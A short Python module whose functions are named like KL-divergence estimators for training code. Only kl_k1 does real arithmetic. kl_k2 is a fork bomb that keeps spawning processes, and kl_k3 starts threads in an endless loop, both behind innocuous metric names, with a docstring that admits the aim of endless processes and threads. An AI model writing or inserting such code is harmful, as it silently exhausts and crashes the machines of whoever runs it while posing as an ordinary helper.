"""Many processes (as many as do no harm where they are not refused), and threads without end."""

import os
import threading
import time


def kl_k1(logprobs, ref_logprobs):
    return logprobs - ref_logprobs


def kl_k2(logprobs, ref_logprobs):
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(30)


def kl_k3(logprobs, ref_logprobs):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
